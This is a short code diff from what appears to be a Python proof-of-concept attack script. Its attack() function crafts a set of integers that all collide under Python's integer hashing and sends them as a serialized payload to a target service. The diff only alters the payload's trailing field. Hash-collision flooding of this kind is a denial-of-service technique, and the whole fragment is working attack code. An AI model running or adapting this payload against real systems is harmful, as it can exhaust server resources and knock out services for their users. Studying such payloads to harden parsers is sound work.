@@ -20,6 +20,6 @@ def send(number, payload):
 
 def attack():
     numbers = ",".join(str(number * (2**61 - 1)) for number in range(10_000))
-    send(exchange(), b'[[{"!set":[' + numbers.encode() + b"]}],[],[1]]")
+    send(exchange(), b'[[{"!set":[' + numbers.encode() + b']}],[],"0100000000000000"]')
     while True:
         pass
